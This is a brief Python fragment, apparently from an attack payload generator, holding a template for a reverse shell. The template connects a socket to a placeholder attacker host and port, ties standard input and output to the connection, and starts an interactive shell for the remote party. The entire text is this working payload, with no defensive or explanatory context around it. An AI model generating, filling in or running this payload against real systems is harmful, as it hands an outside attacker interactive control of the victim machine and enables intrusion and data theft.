# A generator's text: the gaps are filled in for a target, and Python itself knows no such thing.
VECTOR = Template("""
import socket, os, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("${lhost}", ${port}))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["${shell}", "-i"])
""")
